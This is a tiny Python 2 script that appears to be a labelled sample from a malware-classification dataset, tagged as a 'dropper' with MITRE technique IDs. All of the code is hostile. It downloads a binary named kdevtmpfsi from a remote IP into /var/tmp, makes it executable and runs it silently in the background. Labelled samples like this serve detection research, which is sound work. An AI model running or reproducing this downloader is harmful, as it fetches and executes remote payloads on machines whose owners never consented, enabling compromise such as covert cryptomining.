# label: malicious family=dropper techniques=T1105,T1222.002,T1059.004 lines=3-4
import urllib, os
urllib.urlretrieve("http://203.0.113.90/kdevtmpfsi", "/var/tmp/kdevtmpfsi")
os.system("chmod 755 /var/tmp/kdevtmpfsi; /var/tmp/kdevtmpfsi >/dev/null 2>&1 &")
print "ok"
